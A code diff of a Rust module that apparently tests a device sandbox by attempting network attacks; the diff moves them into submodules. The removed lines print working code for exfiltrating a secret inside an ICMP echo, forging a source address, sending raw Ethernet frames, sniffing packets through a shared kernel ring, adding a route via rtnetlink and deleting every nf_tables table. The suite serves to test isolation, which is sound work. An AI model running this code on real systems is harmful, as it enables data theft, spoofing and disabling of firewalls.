@@ -1,17 +1,18 @@
 //! Out into the network, to other apps, and against the packet filter. The manifest grants one port of one machine.
 
+mod raw;
+mod tables;
+
 use std::io::Read;
 use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
 use std::time::Duration;
 
-use libc::{
-    AF_INET, AF_INET6, AF_NETLINK, AF_PACKET, SOCK_DGRAM, SOCK_RAW, SOCK_STREAM, SYS_sendto, SYS_socket,
-};
+use libc::{AF_INET, AF_INET6, SOCK_DGRAM, SOCK_STREAM, SYS_sendto, SYS_socket};
 use nix::errno::Errno;
 
 use super::ipc::answer;
-use crate::attack::{claim_from, find_secret};
-use crate::call::{Outcome, at, call, errno, into};
+use crate::attack::claim_from;
+use crate::call::{Outcome, at, call, errno};
 use crate::catalogue::Attack;
 use crate::order::Order;
 use crate::victim;
@@ -59,13 +60,13 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "ping-exfiltration",
         goal: "Carries a secret out in an ICMP echo",
         scene: LEAVES,
-        run: ping,
+        run: raw::ping,
     },
     Attack {
         name: "forged-source",
         goal: "Sends a datagram with the address of another",
         scene: LEAVES,
-        run: forged,
+        run: raw::forged,
     },
     Attack {
         name: "broadcast",
@@ -77,13 +78,13 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "raw-frame",
         goal: "Sends a frame of its own making from the device's network card",
         scene: LEAVES,
-        run: raw_frame,
+        run: raw::raw_frame,
     },
     Attack {
         name: "sniffing",
         goal: "Reads others' packets out of a ring that the kernel shares with it",
-        scene: SNIFFED,
-        run: sniff,
+        scene: raw::SNIFFED,
+        run: raw::sniff,
     },
     Attack {
         name: "ipv6",
@@ -152,19 +153,19 @@ pub(crate) const ATTACKS: &[Attack] = &[
         name: "route-changed",
         goal: "Gives the device another route",
         scene: Scene::new("the device has a route that the attacker made", |_, _| {
-            std::fs::read_to_string("/proc/net/route").unwrap_or_default().contains(ROUTE)
+            std::fs::read_to_string("/proc/net/route").unwrap_or_default().contains(tables::ROUTE)
         })
         .restore(|_, _| {
-            let _ = route(25);
+            let _ = tables::route(25);
         }),
-        run: |_| route(24),
+        run: |_| tables::route(24),
     },
     Attack {
         name: "packet-filter-flushed",
         goal: "Empties the packet filter, and then sends what it forbids",
         scene: LEAVES,
         run: |order| {
-            flush_filter()?;
+            tables::flush_filter()?;
             send(order, [192, 0, 2, 78], 7001)
         },
     },
@@ -271,136 +272,6 @@ fn dns(order: &Order) -> Outcome {
     last
 }
 
-/// The checksum of the Internet protocols (RFC 1071).
-fn checksum(bytes: &[u8]) -> u16 {
-    let sum: u32 =
-        bytes.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0))).sum();
-    let folded = (sum & 0xffff) + (sum >> 16);
-    !((folded & 0xffff) as u16 + (folded >> 16) as u16)
-}
-
-fn ping(order: &Order) -> Outcome {
-    const ICMP: usize = 1;
-    let mut echo = vec![8, 0, 0, 0, 0x4e, 0x61, 0, 1];
-    echo.extend(order.token.as_bytes());
-    let sum = checksum(&echo).to_be_bytes();
-    echo[2..4].copy_from_slice(&sum);
-    let socket = call(SYS_socket, &[AF_INET as usize, SOCK_DGRAM as usize, ICMP])
-        .or_else(|_| call(SYS_socket, &[AF_INET as usize, SOCK_RAW as usize, ICMP]))?;
-    send_raw(socket, &echo, [10, 0, 2, 2])
-}
-
-fn send_raw(socket: usize, packet: &[u8], host: [u8; 4]) -> Outcome {
-    let address = address(host, 0);
-    for _ in 0..2 {
-        call(
-            SYS_sendto,
-            &[socket, packet.as_ptr() as usize, packet.len(), 0, at(&address), size_of_val(&address)],
-        )?;
-        pause();
-    }
-    done()
-}
-
-/// An IPv4 packet with a UDP datagram.
-fn datagram(order: &Order, from: [u8; 4], to: [u8; 4]) -> Vec<u8> {
-    let text = order.token.as_bytes();
-    let length = 28 + text.len() as u16;
-    let mut packet = vec![0x45, 0];
-    packet.extend(length.to_be_bytes());
-    packet.extend([0x4e, 0x61, 0, 0, 64, 17, 0, 0]);
-    packet.extend(from);
-    packet.extend(to);
-    let sum = checksum(&packet).to_be_bytes();
-    packet[10..12].copy_from_slice(&sum);
-    packet.extend(7001u16.to_be_bytes());
-    packet.extend(7001u16.to_be_bytes());
-    packet.extend((8 + text.len() as u16).to_be_bytes());
-    packet.extend([0, 0]);
-    packet.extend(text);
-    packet
-}
-
-fn forged(order: &Order) -> Outcome {
-    const RAW: usize = 255;
-    let socket = call(SYS_socket, &[AF_INET as usize, SOCK_RAW as usize, RAW])?;
-    send_raw(socket, &datagram(order, [10, 0, 2, 99], [10, 0, 2, 2]), [10, 0, 2, 2])
-}
-
-fn index_of_card() -> Result<i32, Errno> {
-    // SAFETY: the name ends with a zero byte.
-    let index = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) };
-    if index == 0 { Err(Errno::ENODEV) } else { Ok(index as i32) }
-}
-
-fn packet_socket() -> Result<(usize, libc::sockaddr_ll), Errno> {
-    let every = (libc::ETH_P_ALL as u16).to_be();
-    let socket = call(SYS_socket, &[AF_PACKET as usize, SOCK_RAW as usize, every as usize])?;
-    let address = libc::sockaddr_ll {
-        sll_family: AF_PACKET as u16,
-        sll_protocol: every,
-        sll_ifindex: index_of_card()?,
-        sll_hatype: 0,
-        sll_pkttype: 0,
-        sll_halen: 6,
-        sll_addr: [0xff; 8],
-    };
-    call(libc::SYS_bind, &[socket, at(&address), size_of_val(&address)])?;
-    Ok((socket, address))
-}
-
-fn raw_frame(order: &Order) -> Outcome {
-    let (socket, address) = packet_socket()?;
-    let mut frame = vec![0xff; 6];
-    frame.extend([2, 0, 0, 0, 0, 1, 8, 0]);
-    frame.extend(datagram(order, [10, 0, 2, 98], [10, 0, 2, 2]));
-    call(
-        SYS_sendto,
-        &[socket, frame.as_ptr() as usize, frame.len(), 0, at(&address), size_of_val(&address)],
-    )?;
-    pause();
-    done()
-}
-
-/// A process of the OS sends a secret over the card, again and again.
-const SNIFFED: Scene =
-    Scene::new("a process of the attacker knows the secret that another sent", |world, _| {
-        let text = format!("{}{}", world.order.mark(), world.secret);
-        if let Ok(socket) = UdpSocket::bind(("0.0.0.0", 0)) {
-            // From netd's uid the packet filter lets it pass.
-            let _ = socket.send_to(text.as_bytes(), ("10.0.2.2", 7001));
-        }
-        world.is_claimed()
-    });
-
-/// `struct tpacket_req`: two blocks of a page each.
-const RING: [u32; 4] = [4096, 2, 2048, 4];
-
-fn sniff(order: &Order) -> Outcome {
-    const RX_RING: usize = 5;
-    let (socket, _) = packet_socket()?;
-    let level = libc::SOL_PACKET as usize;
-    call(libc::SYS_setsockopt, &[socket, level, RX_RING, at(&RING), size_of_val(&RING)])?;
-    let length = 8192;
-    let rights = libc::PROT_READ | libc::PROT_WRITE;
-    // SAFETY: a new mapping of the ring, which is never given back.
-    let ring =
-        unsafe { libc::mmap(std::ptr::null_mut(), length, rights, libc::MAP_SHARED, socket as i32, 0) };
-    if ring == libc::MAP_FAILED {
-        return Err(Errno::last());
-    }
-    let until = std::time::Instant::now() + Duration::from_secs(2);
-    while std::time::Instant::now() < until {
-        std::thread::sleep(Duration::from_millis(50));
-        // SAFETY: the ring has two pages; the kernel may write to it, which at worst tears what is read.
-        let bytes = unsafe { std::slice::from_raw_parts(ring.cast::<u8>(), length) }.to_vec();
-        if find_secret(order, &bytes).is_some() {
-            return claim_from(order, &bytes);
-        }
-    }
-    Err(Errno::ENODATA)
-}
-
 fn ipv6(order: &Order) -> Outcome {
     let socket = call(SYS_socket, &[AF_INET6 as usize, SOCK_DGRAM as usize, 0])?;
     let mut all = [0u8; 16];
@@ -430,70 +301,6 @@ fn only_interface() -> Result<i32, Errno> {
     Ok(2)
 }
 
-/// As `/proc/net/route` shows the attacker's route: to 198.19.77.0.
-const ROUTE: &str = "004D13C6";
-
-/// Adds (24) or deletes (25) a route by rtnetlink(7).
-fn route(message: u16) -> Outcome {
-    let index = index_of_card()?;
-    let mut body = vec![AF_INET as u8, 24, 0, 0, 254, 4, 253, 1, 0, 0, 0, 0];
-    body.extend([8, 0, 1, 0, 198, 19, 77, 0]);
-    body.extend([8, 0, 4, 0]);
-    body.extend((index as u32).to_ne_bytes());
-    // A request that is to be made anew and answered.
-    const FLAGS: u16 = 1 | 4 | 0x400 | 0x200;
-    netlink(0, &[message_of(message, FLAGS, 1, &body)])
-}
-
-fn message_of(kind: u16, flags: u16, number: u32, body: &[u8]) -> Vec<u8> {
-    let mut message = Vec::new();
-    message.extend((16 + body.len() as u32).to_ne_bytes());
-    message.extend(kind.to_ne_bytes());
-    message.extend(flags.to_ne_bytes());
-    message.extend(number.to_ne_bytes());
-    message.extend([0; 4]);
-    message.extend(body);
-    message
-}
-
-/// Sends messages in one packet, and takes the first error of the answer.
-fn netlink(protocol: usize, messages: &[Vec<u8>]) -> Outcome {
-    let socket = call(SYS_socket, &[AF_NETLINK as usize, SOCK_RAW as usize, protocol])?;
-    let packet = messages.concat();
-    call(SYS_sendto, &[socket, packet.as_ptr() as usize, packet.len(), 0, 0, 0])?;
-    let mut answer = [0u8; 1024];
-    let dont_wait = libc::MSG_DONTWAIT as usize;
-    pause();
-    match call(libc::SYS_recvfrom, &[socket, into(&mut answer), answer.len(), dont_wait, 0, 0]) {
-        Ok(20..) => match i32::from_ne_bytes([answer[16], answer[17], answer[18], answer[19]]) {
-            0 => Ok(()),
-            error => Err(Errno::from_raw(-error)),
-        },
-        Ok(_) => Err(Errno::EPROTO),
-        Err(error) => Err(error),
-    }
-}
-
-/// Deletes every table of nf_tables, in one transaction.
-fn flush_filter() -> Outcome {
-    const BEGIN: u16 = 16;
-    const END: u16 = 17;
-    const DELETE_TABLE: u16 = 10 << 8 | 2;
-    let family = |family: u8, resource: u16| {
-        let mut body = vec![family, 0];
-        body.extend(resource.to_be_bytes());
-        body
-    };
-    netlink(
-        12,
-        &[
-            message_of(BEGIN, 1, 1, &family(0, 10)),
-            message_of(DELETE_TABLE, 1 | 4, 2, &family(0, 0)),
-            message_of(END, 1, 3, &family(0, 10)),
-        ],
-    )
-}
-
 /// The witness connects over the loopback of the OS.
 const LISTENS: Scene =
     Scene::new("whoever connects to the port of the device hears the attacker", |world, _| {
@@ -518,4 +325,10 @@ fn set_interface(flags: i16) -> Outcome {
     request[..4].copy_from_slice(b"eth0");
     request[16..18].copy_from_slice(&flags.to_ne_bytes());
     super::files::ioctl(socket, libc::SIOCSIFFLAGS as usize, at(&request)).map(drop)
+}
+
+fn index_of_card() -> Result<i32, Errno> {
+    // SAFETY: the name ends with a zero byte.
+    let index = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) };
+    if index == 0 { Err(Errno::ENODEV) } else { Ok(index as i32) }
 }
